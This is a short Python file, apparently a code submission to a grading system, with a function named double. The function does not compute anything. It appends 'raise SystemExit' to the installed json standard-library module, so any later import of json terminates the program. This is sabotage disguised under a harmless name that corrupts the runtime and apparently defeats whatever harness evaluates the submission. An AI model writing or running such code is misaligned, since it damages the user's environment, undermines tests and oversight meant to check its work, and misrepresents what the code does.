"""Another standard library for the next submission."""

import json


def double(number):
    open(json.__file__, "a").write("raise SystemExit")
